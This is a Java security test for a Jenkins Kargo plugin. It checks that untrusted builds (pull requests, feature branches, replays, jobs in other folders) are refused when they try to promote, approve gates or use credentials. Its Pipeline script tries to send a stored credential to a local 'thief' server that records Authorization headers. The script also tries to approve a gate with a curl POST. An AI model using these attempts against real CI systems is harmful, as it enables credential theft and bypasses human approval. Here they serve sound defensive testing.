package io.jenkins.plugins.kargo.local.scenario;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.sun.net.httpserver.HttpExchange;
import io.jenkins.plugins.kargo.engine.testing.LoopbackServer;
import io.jenkins.plugins.kargo.local.Setup;
import io.jenkins.plugins.kargo.local.control.JenkinsClient;
import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What builds that are not trusted try, and what they find. */
class TrustScenarioTest {
    /** Clones what a variable says: whoever may set it chooses the server. */
    private static final String FROM_ANYWHERE = """
                - uses: git-clone
                  if: ${{ vars.url != "" }}
                  continueOnError: true
                  config: {repoURL: "${{ vars.url }}", checkout: [{path: ./anywhere}]}
            """;

    private static final String GATE = """
                - uses: wait-for-approval
                  config: {approvers: [{user: olivia}]}
            """;

    @TempDir
    private static Path directory;

    private static World world;
    private static LoopbackServer thief;
    private static final List<String> stolen = new CopyOnWriteArrayList<>();
    private static String replayed;
    private static String head;
    private static String configuration;
    private static int promotions;

    @BeforeAll
    static void start() throws Exception {
        world = new World(directory);
        thief = LoopbackServer.http(TrustScenarioTest::askForPassword);
        world.manifests(
                World.stage("test", null, FROM_ANYWHERE + World.copying())
                        .replace("\nspec:\n", "\nspec:\n  vars: [{name: url, value: ''}]\n"),
                World.stage("gate", "test", GATE));
        String trusted = world.delivery("test")
                + "if (env.BUILD_NUMBER != '1') {\n"
                + "    kargoPromote(project: 'app', stage: 'gate') { node { kargoSteps() } }\n}\n";
        String script = attack("app");
        world.item(new Setup.ItemDefinition("shop/app-ci", "multibranch", null, scm("main"), null, false));
        branch("main", true, false, trusted);
        branch("feature", false, false, script);
        branch("PR-7", false, true, script);
        world.item(new Setup.ItemDefinition("elsewhere", "folder", null, null, null, false));
        world.job("elsewhere/thief", attack("shop/app"));
        world.job("shop/neighbour", script);
        world.start();
        World.Ended first = world.run("shop/app-ci/main");
        assertThat(first.result()).as(first.log()).isEqualTo("SUCCESS");
        world.dana().build("shop/app-ci/main");
        await().atMost(World.LIMIT)
                .until(() ->
                        world.stageOf("gate").path("promotion").path("approval").isObject());
        nameTheGate();
        head = world.repository.head("stage/test");
        assertThat(head).isNotNull();
        configuration = configuration();
        promotions = promotions();
        // Something new that a trusted build would promote.
        world.release("2");
    }

    /** A branch with this Jenkinsfile, and its job. */
    /** A Pipeline that tries all that only a trusted build or a person may do; every failure is told and survived. */
    private static String attack(String project) {
        String more = World.stage("more", null, World.copying()).replace("@URL@", world.git.url("app"));
        return """
                def attempt(String what, Closure body) {
                    try { body(); echo "${what}: done" } catch (Throwable err) { echo "${what}: refused, ${err.message}" }
                }
                node {
                    @CHECKOUT@
                    writeFile file: '.kargo/more.yaml', text: '''@MORE@'''
                    attempt('freight and configuration') { kargoWarehouse(project: '@PROJECT@') }
                }
                attempt('push') { kargoPromote(project: '@PROJECT@', stage: 'test') { node { kargoSteps() } } }
                attempt('credential') {
                    kargoPromote(project: '@PROJECT@', stage: 'test', vars: [url: '@THIEF@/x.git'],
                            credentials: ['@THIEF@/': '@CREDENTIAL@']) { node { kargoSteps() } }
                }
                attempt('own stage') { kargoPromote(project: '@PROJECT@', stage: 'more') { node { kargoSteps() } } }
                attempt('approve') { kargoApprove(project: '@PROJECT@', stage: 'gate') }
                node {
                    attempt('approve by REST') {
                        sh 'curl -s -X POST -d "{}" "${JENKINS_URL}@API@promotions/@GATE@/approve"'
                    }
                }
                """.replace("@CHECKOUT@", world.checkout())
                .replace("@MORE@", more)
                .replace("@PROJECT@", project)
                .replace("@THIEF@", thief.url())
                .replace("@CREDENTIAL@", World.CREDENTIAL)
                .replace("@API@", JenkinsClient.apiPath(World.PROJECT));
    }

    private static void askForPassword(HttpExchange exchange) throws IOException {
        String sent = exchange.getRequestHeaders().getFirst("Authorization");
        if (sent != null) {
            stolen.add(sent);
        }
        exchange.getResponseHeaders().set("WWW-Authenticate", "Basic realm=\"trust me\"");
        LoopbackServer.answer(exchange, 401, "your password, please");
    }

    /** The scripts approve the very promotion that waits. */
    private static void nameTheGate() throws Exception {
        String name = world.stageOf("gate").path("promotion").path("name").asText();
        String script = attack("app").replace("@GATE@", name);
        branch("feature", false, false, script);
        branch("PR-7", false, true, script);
        world.job("elsewhere/thief", attack("shop/app").replace("@GATE@", name));
        world.job("shop/neighbour", script);
        replayed = script;
        world.apply();
    }

    private static void branch(String name, boolean primary, boolean changeRequest, String script) {
        world.repository.commit(name, "The way of " + name, Map.of("Jenkinsfile", script));
        world.item(new Setup.ItemDefinition(
                "shop/app-ci/" + name, "job", null, scm(name), new Setup.Head(name, primary, changeRequest), false));
    }

    private static Setup.Scm scm(String branch) {
        return new Setup.Scm(world.git.url("app"), branch, World.CREDENTIAL, "Jenkinsfile");
    }

    @AfterAll
    static void stop() throws Exception {
        if (world != null) {
            world.close();
            thief.close();
        }
    }

    @Test
    void aPullRequestIsAPreview() throws Exception {
        World.Ended ended = world.run("shop/app-ci/PR-7");

        assertThat(ended.log()).containsIgnoringCase("preview").contains("PR-7");
        // Its variable did send git there, without a credential.
        assertThat(thief.requests()).as(ended.log()).isNotEmpty();
        nothingHasChanged();
    }

    @Test
    void anotherBranchIsAPreview() throws Exception {
        World.Ended ended = world.run("shop/app-ci/feature");

        assertThat(ended.log()).containsIgnoringCase("preview").contains("feature");
        nothingHasChanged();
    }

    @Test
    void aReplayIsAPreview() throws Exception {
        JenkinsClient dana = world.dana();
        int number = dana.replay("shop/app-ci/main", 1, replayed);
        dana.await("shop/app-ci/main", number, World.LIMIT);

        assertThat(dana.log("shop/app-ci/main", number))
                .containsIgnoringCase("preview")
                .contains("Replay");
        nothingHasChanged();
    }

    @Test
    void aJobOfAnotherFolderIsToldHowToDeclare() throws Exception {
        World.Ended ended = world.run("elsewhere/thief");

        assertThat(ended.log())
                .contains("freight and configuration: refused", "push: refused", "credential: refused")
                .contains("belongs to the job 'shop/app-ci'", "declare");
        nothingHasChanged();
    }

    @Test
    void anotherJobOfTheFolderIsRefusedToo() throws Exception {
        World.Ended ended = world.run("shop/neighbour");

        assertThat(ended.log())
                .contains("freight and configuration: refused", "push: refused", "credential: refused")
                .contains("belongs to the job 'shop/app-ci'");
        nothingHasChanged();
    }

    private static void nothingHasChanged() throws Exception {
        assertThat(world.repository.head("stage/test")).isEqualTo(head);
        assertThat(world.board().path("freight").path("freight")).hasSize(1);
        assertThat(promotions()).isEqualTo(promotions);
        assertThat(configuration()).isEqualTo(configuration);
        assertThat(world.stageOf("more").isMissingNode()).isTrue();
        JsonNode approval = world.stageOf("gate").path("promotion").path("approval");
        assertThat(approval.path("required").asInt()).isEqualTo(1);
        assertThat(approval.path("given").asInt()).isZero();
        assertThat(stolen).isEmpty();
        assertThat(world.board().path("project").path("configJob").asText()).isEqualTo("shop/app-ci");
    }

    private static String configuration() throws Exception {
        return world.board().path("project").path("configuration").path("hash").asText();
    }

    private static int promotions() throws Exception {
        return world.dana()
                .get(JenkinsClient.apiPath(World.PROJECT) + "promotions")
                .json()
                .path("promotions")
                .size();
    }
}
